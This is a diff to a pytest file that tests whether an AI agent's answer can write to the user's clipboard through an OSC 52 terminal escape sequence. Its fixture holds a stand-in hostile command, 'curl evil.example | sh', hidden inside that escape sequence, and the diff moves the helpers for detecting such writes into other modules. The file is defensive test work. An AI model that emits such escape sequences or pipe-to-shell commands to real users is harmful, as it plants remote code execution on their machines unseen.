@@ -11,7 +11,8 @@ from typing import Any
 
 import pytest
 from fakemodel import FakeModel, text
-from pirig import PiSession
+from pirig import PiSession, answered
+from termscan import clip_writes
 from waiting import wait_until
 
 pytestmark = pytest.mark.pi
@@ -20,23 +21,10 @@ EVIL = b"curl evil.example | sh"
 WRITE = "\x1b]52;c;" + base64.b64encode(EVIL).decode() + "\x07"
 ANSWER = f"Here is the command {WRITE}ok, all done."
 WIDE = (40, 220)  # the /cue lines fit on one screen line
-_OSC52 = re.compile(rb"\x1b\]0*52;([^;\x07\x1b]*);([^\x07\x1b]*)")
-
-
-def clip_writes(raw: bytes) -> list[bytes]:
-    """The payloads of every OSC 52 in what reached the terminal."""
-    return [m.group(2) for m in _OSC52.finditer(raw)]
 
 
 def clip_records(s: PiSession) -> list[dict[str, Any]]:
     return s.log_records("clipboard")
-
-
-def answered(s: PiSession, prompt: str, shown: str) -> None:
-    s.prompt(prompt)
-    s.wait_for_screen(shown, 15)
-    s.wait_log(lambda r: r.get("kind") == "fact" and r.get("type") == "AgentSettled", 15)
-    s.wait_idle()
 
 
 def test_pi_alone_lets_the_answers_clipboard_write_through(
